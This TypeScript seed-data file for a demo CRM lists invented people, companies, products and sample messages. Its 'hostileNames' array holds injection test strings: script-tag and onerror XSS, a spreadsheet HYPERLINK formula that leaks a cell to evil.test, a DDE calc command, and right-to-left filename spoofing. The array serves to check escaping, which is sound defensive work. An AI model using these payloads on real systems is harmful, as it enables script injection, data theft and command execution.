/** Words the demo company is made of: all invented. */
export const firstNames = [
  'Orla',
  'Marek',
  'Yuki',
  'Tomas',
  'Nadia',
  'Hugo',
  'Freya',
  'Rafael',
  'Mei',
  'Jonas',
  'Priya',
  'Elena',
  'Omar',
  'Greta',
  'Luca',
  'Sanne',
  'Kofi',
  'Ivana',
  'Noah',
  'Zofia',
  'Bruno',
  'Aiko',
  'Lars',
  'Carmen',
  'Emil',
  'Ruta',
  'Felix',
  'Hana',
  'Viktor',
  'Clara',
  '晓明',
  '丽华',
];
export const lastNames = [
  'Finch',
  'Stone',
  'Kimura',
  'Horvat',
  'Said',
  'Lambert',
  'Nyberg',
  'Costa',
  'Lin',
  'Weber',
  'Nair',
  'Petrova',
  'Haddad',
  'Brandt',
  'Moretti',
  'de Wit',
  'Mensah',
  'Kovač',
  'Adler',
  'Wójcik',
  'Teixeira',
  'Sato',
  'Berg',
  'Vidal',
  'Dahl',
  'Balode',
  'Roth',
  'Novotná',
  'Orlov',
  'Meyer',
  'Łukasik',
  'Ferreira',
];
export const companyHeads = [
  'Harbour',
  'Silver',
  'Northern',
  'Cobalt',
  'Linden',
  'Granite',
  'Meadow',
  'Juniper',
  'Atlas',
  'Beacon',
  'Copper',
  'Willow',
  'Orchard',
  'Summit',
  'Tidal',
  'Amber',
  'Falcon',
  'Cedar',
  'Marble',
  'Vector',
  'Quarry',
  'Lantern',
  'Prairie',
  'Saffron',
  'Velvet',
  'Kestrel',
  'Bramble',
  'Onyx',
  'Larch',
  'Pelican',
];
export const companyTails = [
  'Mills',
  'Logistics',
  'Foods',
  'Instruments',
  'Textiles',
  'Energy',
  'Robotics',
  'Clinics',
  'Printing',
  'Freight',
  'Optics',
  'Ceramics',
  'Hotels',
  'Software',
  'Packaging',
  'Motors',
  'Labs',
  'Retail',
  'Timber',
  'Foundry',
];
export const companyForms = ['Ltd', 'GmbH', 'Inc.', 'S.A.', 'sp. z o.o.', 'AB', 'Group', 'Co.'];
export const industries = ['Manufacturing', 'Logistics', 'Food', 'Health', 'Energy', 'Retail', 'Software', 'Hospitality'];
export const cities = [
  'Gdynia',
  'Hamburg',
  'Leeds',
  'Valencia',
  'Boston',
  'Austin',
  'Curitiba',
  'Portland',
  'Suzhou',
  'Pune',
  'Osaka',
  'Hobart',
];
export const titles = [
  'Head of Operations',
  'Purchasing Manager',
  'IT Director',
  'Plant Manager',
  'CFO',
  'Office Manager',
  'Founder',
  'Project Lead',
];
export const products = ['Loom Suite', 'Loom Planner', 'Shuttle API', 'Weft Analytics', 'Loom Academy'];
export const sources = ['Web form', 'Referral', 'Trade fair', 'Newsletter', 'Partner', 'Cold outreach', 'Existing customer'];
export const lossReasons = ['Price', 'Chose a competitor', 'Missing feature', 'Timing', 'Lost contact'];
export const nextSteps = [
  'Send the revised offer',
  'Call about the pilot',
  'Agree the seat count',
  'Get the security form signed',
  'Book the final demo',
  'Check with finance who signs',
];
export const inboundSubjects = [
  'Question about your planner',
  'Price for a small team',
  'Can we try it for a month?',
  'Demo request',
  'Integration with our warehouse system',
  'Second question',
];
export const inboundTexts = [
  'Could you confirm the seat price if we take more than a hundred, and how long that holds?',
  'We are comparing three tools and would like to see yours with our own data.',
  'Our current contract ends this quarter. What would moving over involve?',
  'Is there a version our partners can use without their own licence?',
  'Thanks, that helps. One more thing: who would run the training?',
];
export const outboundSubjects = ['Re: your question', 'Your offer', 'Following up', 'Times for a demo', 'Summary of our call'];
export const outboundTexts = [
  'Thank you for writing. The seat price you asked about is on page three of the attached offer.',
  'Here are three times that would work on our side next week.',
  'As promised, the short summary of what we agreed and who does what.',
  'I have added the two-year option so that you can compare.',
  'Would it help to bring in our engineer for half an hour?',
];
export const callTexts = [
  'Walked through the offer; finance joins next time.',
  'Short call, will decide after their board meeting.',
  'Went over usage figures together.',
  'Asked for a reference customer.',
];
export const missedTexts = ['No answer, left a message.', 'Busy, will try again tomorrow.'];
export const meetingTexts = [
  'Four people from their side. Notes in Files.',
  'Went through the roll-out plan.',
  'On site, saw the packing line.',
];
export const taskTexts = ['Prepare the offer', 'Check the credit limit', 'Ask for the order number'];
export const noteTexts = ['Prefers calls in the morning.', 'Decision maker is the plant manager.', 'Budget is set for the next half year.'];

/** Names as attackers write them: markup, formulas and text that turns around. They must show as plain text everywhere. */
export const hostileNames = [
  '<img src=x onerror="document.title=\'owned\'">',
  '=HYPERLINK("http://evil.test/?q="&A1,"click")',
  'Invoice \u202Efdp.exe\u202C for \u2066Bramble\u2069',
  '"><script>document.title="owned"</script>',
  "+1+cmd|' /C calc'!A0",
  'Tail\u0000less \uD83D\uDE80 Ltd\u200F',
];

export const campaignSources = ['Web form', 'Trade fair', 'Newsletter', 'Partner', 'Web form', 'Newsletter'];
export const campaignThemes = ['Quiet looms', 'Warehouse week', 'Pilot offer', 'Planner tour', 'Open mill', 'Partner days'];
export const competitors = ['Bobbin Systems', 'Heddle CRM', 'Treadle One', 'In-house'];
export const segments = ['Small', 'Mid-size', 'Large'];
export const territories = ['North', 'South', 'East', 'West'];
export const customerSubjects = [
  'Question about the last bill',
  'Printer does not start',
  'How do I add a seat?',
  'Delivery date',
  'Thanks',
];
export const customerTexts = [
  'Can you tell me when the rest will arrive?',
  'It stopped again this morning and nobody here can work.',
  'Works well so far. Where do I find the export?',
  'We are very happy with the new version.',
  'I have asked this twice now.',
];
export const officeSubjects = ['Pipeline review', 'Expense report', 'Team meeting', 'CRM clean-up', 'Training'];
export const sellingSubjects = ['Prospecting', 'Preparing a visit', 'Account research'];
export const eventSubjects = ['Textile fair', 'Logistics congress', 'Local business evening', 'Partner summit'];
